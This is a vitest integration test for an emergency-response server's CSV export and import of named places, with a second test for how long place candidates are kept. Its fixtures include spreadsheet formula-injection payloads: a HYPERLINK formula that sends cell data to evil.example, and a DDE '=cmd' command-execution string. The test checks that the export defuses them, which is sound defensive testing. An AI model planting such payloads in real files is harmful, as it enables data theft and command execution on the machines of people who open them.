// Common places as CSV, and candidates that age out: the real server (server/main.ts start()), real HTTP, the real
// SQLite file in a temp dir. Export → import gives the same places, whatever their text holds (quotes, commas,
// newlines, formulas); formula cells are defused on export; a bad row is a 400 naming its row, column and line, with
// nothing stored; pending candidates past SIAGA_PLACE_CANDIDATES_KEEP_DAYS are deleted by the retention timer, approved
// ones are kept. The CSV is read back here with csv-parse as a plain RFC 4180 reader, not through the server's code.
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { placeKey } from '../../geo/index.ts';
import { loadConfig } from '../../server/config.ts';
import { loadGeoData } from '../../server/geo/load.ts';
import { start } from '../../server/main.ts';
import { DIST_DIR } from '../../server/paths.ts';

vi.mock('../../server/paths.ts', async (real) => (await import('./stub-wall.ts')).withStubWall(await real<typeof import('../../server/paths.ts')>()));

const data = loadGeoData();
// a real point in the city the geocoder cannot name (the learning test's fire post in Kel. Kulim)
const post = data.gazetteer.places.find((p) => p.id === 'node/3243088126')!;
const kel = data.gazetteer.kelurahan.find((k) => k.kode === post.kelurahan_kode)!;
const DAY = 86_400_000;

const ADMIN = 'places-csv-admin-token-0123456789abcdef';
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'siaga-places-csv-'));
const dataDir = path.join(tmp, 'data');
const running = await start(
  loadConfig({
    PORT: '0', HOST: '127.0.0.1', SIAGA_DATA_DIR: dataDir, SIAGA_RUNTIME_DIR: path.join(tmp, 'runtime'),
    SIAGA_ADMIN_TOKEN: ADMIN, SIAGA_NO_STREAMS: '1', SIAGA_RTMP_PORT: '0', SIAGA_OSMAND_PORT: '0', SIAGA_LOG_LEVEL: 'error',
    SIAGA_BACKUP_INTERVAL_S: '0', SIAGA_INTAKE_RATE: '0', SIAGA_MIN_FREE_DISK_MB: '0', FFMPEG_PATH: process.env.FFMPEG_PATH,
    // the retention timer runs every second (first run a second after start); candidates keep the default 180 days
    SIAGA_RETENTION_INTERVAL_S: '1',
  }, []),
);
afterAll(async () => {
  await running.close();
  fs.rmSync(tmp, { recursive: true, force: true });
  fs.rmSync(DIST_DIR, { recursive: true, force: true });
});
const base = `http://127.0.0.1:${running.port}`;

async function call(method: string, url: string, token: string, body?: string | object, contentType = 'application/json') {
  const res = await fetch(base + url, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': contentType }) },
    body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
  });
  const text = Buffer.from(await res.arrayBuffer()).toString('utf8'); // as sent: res.text() would drop a BOM
  let json: any = null;
  try {
    json = JSON.parse(text);
  } catch {
    /* CSV, or 204 */
  }
  return { status: res.status, body: json, text, headers: res.headers };
}
const importCsv = (csv: string, token = ADMIN) => call('POST', '/api/places/import', token, csv, 'text/csv; charset=utf-8');
const listPlaces = async () => (await call('GET', '/api/places', ADMIN)).body.items as any[];
const auditCount = async () => ((await call('GET', '/api/places/audit?limit=5000', ADMIN)).body.items as any[]).length;
const exportCsv = async () => {
  const r = await call('GET', '/api/places.csv', ADMIN);
  expect(r.status).toBe(200);
  return r;
};
/** The export as rows of cells (BOM taken off by the reader). */
const cells = (csv: string): string[][] => parse(csv, { bom: true });
const comparable = (p: any) => ({ name: p.name, aliases: p.aliases, lat: p.lat, lon: p.lon, radiusM: p.radiusM, source: p.source });
const operator: string = (await call('POST', '/api/tokens', ADMIN, { role: 'operator', label: 'places csv test console' })).body.token;

/** Places whose text a CSV writer or a spreadsheet can get wrong. */
const TRICKY = [
  { name: 'Gudang "Sinar Jaya", Blok A', aliases: ['Gudang SJ', 'gudang "sinar", jaya'], source: 'Dinkes, puskesmas 2025 — "uji"' },
  { name: 'Ruko 12\nlantai 2', aliases: ['ruko dua belas\r\nlantai dua'], radiusM: 35.5 },
  { name: '=HYPERLINK("http://evil.example/?d="&A1,"klik")', aliases: ['=1+1', '-x'], source: '=cmd|\' /c calc\'!A1' },
  { name: '+62 812 0000 1111', aliases: [] },
  { name: '-Pos Ronda-', aliases: ['@Kantor Lurah'] },
  { name: '@SUM(A1:A9)', aliases: [] },
  { name: "'=sudah dikutip", aliases: ["''+dua kutip"] },
  { name: 'Masjid Raya An-Nur ☪ Pekanbaru', aliases: ['masjid an nur'] },
];

describe('common places as CSV', () => {
  const created: any[] = [];

  it('exports every text cell a spreadsheet would run as a formula with a leading \'', async () => {
    for (const [i, p] of TRICKY.entries()) {
      const r = await call('POST', '/api/places', ADMIN, { ...p, lat: post.lat + i * 0.000123456789, lon: post.lon - i * 0.0001 });
      expect(r.status, r.text).toBe(201);
      created.push(r.body);
    }
    const r = await exportCsv();
    expect(r.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="?common-places\.csv"?$/);
    expect(r.text.charCodeAt(0)).toBe(0xfeff);
    expect(r.text).toContain('\r\n');
    const [head, ...rows] = cells(r.text);
    expect(head).toEqual(['name', 'aliases', 'lat', 'lon', 'radius_m', 'source', 'id', 'created_by', 'created_at']);
    expect(rows).toHaveLength(TRICKY.length);
    const col = (c: string) => rows.map((row) => row[head.indexOf(c)]);
    expect(col('name')).toEqual([
      'Gudang "Sinar Jaya", Blok A', 'Ruko 12\nlantai 2', `'=HYPERLINK("http://evil.example/?d="&A1,"klik")`, "'+62 812 0000 1111", "'-Pos Ronda-",
      "'@SUM(A1:A9)", "''=sudah dikutip", 'Masjid Raya An-Nur ☪ Pekanbaru',
    ]);
    expect(col('aliases')).toEqual(['Gudang SJ|gudang "sinar", jaya', 'ruko dua belas\r\nlantai dua', "'=1+1|-x", '', "'@Kantor Lurah", '', "'''+dua kutip", 'masjid an nur']);
    expect(col('source')).toEqual(['Dinkes, puskesmas 2025 — "uji"', 'admin', "'=cmd|' /c calc'!A1", 'admin', 'admin', 'admin', 'admin', 'admin']);
    // no text cell starts a formula; numbers stay numbers
    for (const c of ['name', 'aliases', 'source', 'id', 'created_by', 'created_at']) for (const v of col(c)) expect(v, `${c}: ${v}`).not.toMatch(/^[=+\-@\t\r]/);
    expect(col('lat').map(Number)).toEqual(created.map((p) => p.lat));
    expect(col('radius_m')[1]).toBe('35.5');
  });

  it('export → delete all → import gives the same places (quotes, commas, newlines, guarded cells)', async () => {
    const before = await listPlaces();
    expect(before).toHaveLength(TRICKY.length);
    const first = (await exportCsv()).text;
    for (const p of before) expect((await call('DELETE', `/api/places/${p.id}`, ADMIN)).status).toBe(204);
    expect(await listPlaces()).toHaveLength(0);

    const r = await importCsv(first);
    expect(r.status, r.text).toBe(201);
    expect(r.body.items).toHaveLength(TRICKY.length);
    const after = await listPlaces();
    expect(after.map(comparable)).toEqual(before.map(comparable));
    // and exporting again writes the same data cells
    const dataCells = (csv: string) => cells(csv).map((row) => row.slice(0, 6));
    expect(dataCells((await exportCsv()).text)).toEqual(dataCells(first));
    // the geocoder answers an imported name
    const top = (await call('GET', `/api/geocode?q=${encodeURIComponent('masjid an nur')}`, ADMIN)).body.items[0];
    expect(top.kind).toBe('common_place');
  });

  it('reads a sheet written by hand: nama for name, columns in any order, blank lines, quoted numbers, no BOM', async () => {
    const csv = [
      'lon,LAT,nama,source',
      `"${post.lon}",${post.lat},Posko Banjir RW 05,Kelurahan ${kel.nama}`,
      '',
      `${post.lon + 0.001},${post.lat},"Pos ""Kamling"" 3",`,
      ',,,',
    ].join('\n');
    const r = await importCsv(csv);
    expect(r.status, r.text).toBe(201);
    expect(r.body.items.map(comparable)).toEqual([
      { name: 'Posko Banjir RW 05', aliases: [], lat: post.lat, lon: post.lon, radiusM: 100, source: `Kelurahan ${kel.nama}` },
      { name: 'Pos "Kamling" 3', aliases: [], lat: post.lat, lon: post.lon + 0.001, radiusM: 100, source: 'import' },
    ]);
    const audit = (await call('GET', '/api/places/audit?limit=2', ADMIN)).body.items as any[];
    expect(audit.map((a) => [a.action, a.detail.name])).toEqual([['import', 'Pos "Kamling" 3'], ['import', 'Posko Banjir RW 05']]);
  });

  it('refuses a bad sheet with a 400 naming the row, the column and the line, and stores nothing of it', async () => {
    const placesBefore = (await listPlaces()).length;
    const auditBefore = await auditCount();
    const good = (i: number) => `Tempat uji ${i},,${post.lat},${post.lon},,uji`;
    const sheet = (...rows: string[]) => ['name,aliases,lat,lon,radius_m,source', ...rows].join('\r\n');
    const cases: Array<[string, string, string, RegExp]> = [
      // [why, csv, field, message]
      ['a word for a latitude, on the 4th row', sheet(good(0), good(1), good(2), `Tempat rusak,,utara,${post.lon},,uji`), 'rows.3.lat', /^rows\.3\.lat \(line 5\): .*number/],
      ['a decimal comma', sheet(good(0), `Tempat koma,,${post.lat},"101,45",,uji`), 'rows.1.lon', /\(line 3\)/],
      ['a latitude beyond 90', sheet(`Tempat kutub,,91,${post.lon},,uji`), 'rows.0.lat', /\(line 2\)/],
      ['far from the city', sheet(good(0), `Tempat jauh,,0,0,,uji`), 'rows.1.lat', /more than 25 km from the city/],
      ['no latitude', sheet(good(0), good(1), `Tempat kosong,,,${post.lon},,uji`), 'rows.2.lat', /\(line 4\)/],
      ['no name', sheet(`,,${post.lat},${post.lon},,uji`), 'rows.0.name', /needs a name/],
      ['a huge name', sheet(`${'x'.repeat(500)},,${post.lat},${post.lon},,uji`), 'rows.0.name', /\(line 2\)/],
      ['an empty alias', sheet(`Tempat alias,a||b,${post.lat},${post.lon},,uji`), 'rows.0.aliases', /\(line 2\)/],
      ['a huge radius', sheet(good(0), `Tempat luas,,${post.lat},${post.lon},1e9,uji`), 'rows.1.radius_m', /\(line 3\)/],
      ['a row after a quoted newline, numbered by its line', sheet(`"Ruko\nlantai 2",,${post.lat},${post.lon},,uji`, `Tempat rusak,,x,${post.lon},,uji`), 'rows.1.lat', /\(line 4\)/],
      ['a row with a cell too many', sheet(good(0), good(1), `${good(2)},lebih`), 'rows.2', /Invalid Record Length/],
      ['a quote never closed', sheet(good(0), `"Tempat terbuka,,${post.lat},${post.lon},,uji`), 'rows.1', /Quote Not Closed/],
      ['a quote inside an unquoted cell', sheet(`Tempat "kutip",,${post.lat},${post.lon},,uji`), 'rows.0', /Invalid Opening Quote/],
      ['an unknown column', 'name,lat,lon,radius\r\nx,0.5,101.4,50', 'columns', /unknown column "radius"/],
      ['a column twice', 'name,lat,lon,lat\r\nx,0.5,101.4,0.5', 'columns', /"lat" appears twice/],
      ['no lon column', 'name,lat\r\nx,0.5', 'columns', /missing lon/],
      ['semicolons (a spreadsheet\'s regional setting)', `name;lat;lon\r\nx;${post.lat};${post.lon}`, 'columns', /separated by commas/],
      ['a header and no place', sheet(), 'rows', /no place/],
      ['too many rows', sheet(...Array.from({ length: 5001 }, (_, i) => good(i))), 'rows', /5000/],
    ];
    for (const [why, csv, field, message] of cases) {
      const r = await importCsv(csv);
      expect(r.status, `${why}: ${r.text}`).toBe(400);
      expect(r.body, why).toMatchObject({ error: 'invalid_field', field });
      expect(r.body.message, why).toMatch(message);
    }
    const empty = await importCsv('  \r\n');
    expect([empty.status, empty.body.error]).toEqual([400, 'empty_body']);
    const huge = await importCsv(sheet(good(0)) + '\r\n' + `${'y'.repeat(4_200_000)},,${post.lat},${post.lon},,uji`);
    expect([huge.status, huge.body.error]).toEqual([413, 'payload_too_large']);
    const plain = await call('POST', '/api/places/import', ADMIN, sheet(good(0)), 'text/plain');
    expect([plain.status, plain.body.error]).toEqual([415, 'unsupported_media_type']);
    expect((await importCsv(sheet(good(0)), operator)).status).toBe(403);
    expect((await call('GET', '/api/places.csv', operator)).status).toBe(403);

    expect((await listPlaces()).length).toBe(placesBefore);
    expect(await auditCount()).toBe(auditBefore);
    // and the good rows of those sheets go in once the bad one is fixed
    const fixed = await importCsv(sheet(good(0), good(1), good(2), `Tempat diperbaiki,,${post.lat},${post.lon},,uji`));
    expect(fixed.status, fixed.text).toBe(201);
    expect((await listPlaces()).length).toBe(placesBefore + 4);
  });
});

describe('candidate retention', () => {
  /** An incident placed by hand, as the console sends it: the point picked, the text the operator had typed. */
  async function handPlaced(query: string, key: string) {
    const r = await call('POST', '/api/incidents', operator, {
      source: 'form', category: 'kebakaran', description: `uji retensi ${key}`,
      location: { text: `dipilih di peta ${key}`, lat: post.lat, lon: post.lon, uncertaintyM: 25, method: 'manual', query },
    });
    expect(r.status, r.text).toBe(201);
  }
  const groups = async () => (await call('GET', '/api/places/candidates', ADMIN)).body.items as any[];

  it('pending candidates older than 180 days are deleted by the retention job; fresh and approved ones stay', async () => {
    const OLD = `Gudang uji lama ${kel.nama}`;
    const FRESH = `Gudang uji baru ${kel.nama}`;
    const APPROVED = `Gudang uji disetujui ${kel.nama}`;
    for (const [text, n] of [[OLD, 2], [FRESH, 1], [APPROVED, 2]] as const) for (let i = 0; i < n; i++) await handPlaced(text, `${text}-${i}`);
    const norms = new Map((await groups()).map((g) => [g.norm, g.count]));
    expect([OLD, FRESH, APPROVED].map((t) => norms.get(placeKey(t)))).toEqual([2, 1, 2]);
    const made = await call('POST', '/api/places', ADMIN, { name: APPROVED, candidate: placeKey(APPROVED) });
    expect(made.status, made.text).toBe(201);

    // time passes: the old picks and the approved place's picks were made 181 days ago (a second connection to the
    // server's own file, as a maintenance script would)
    const db = new Database(path.join(dataDir, 'siaga.sqlite'));
    db.pragma('busy_timeout = 5000');
    const aged = new Date(Date.now() - 181 * DAY).toISOString();
    const age = db.prepare('UPDATE place_candidates SET at = ? WHERE norm = ?');
    db.transaction(() => [OLD, APPROVED].forEach((t) => age.run(aged, placeKey(t))))();
    const rows = db.prepare('SELECT COUNT(*) FROM place_candidates WHERE norm = ?').pluck();
    try {
      await expect.poll(async () => (await groups()).some((g) => g.norm === placeKey(OLD)), { timeout: 20_000, interval: 250 }).toBe(false);
      expect(rows.get(placeKey(OLD))).toBe(0);
      // the same DELETE judged these: the fresh group is still listed, the approved place keeps its picks
      expect((await groups()).find((g) => g.norm === placeKey(FRESH))?.count).toBe(1);
      expect(rows.get(placeKey(APPROVED))).toBe(2);
      expect((await listPlaces()).some((p) => p.name === APPROVED)).toBe(true);
    } finally {
      db.close();
    }
  });
});
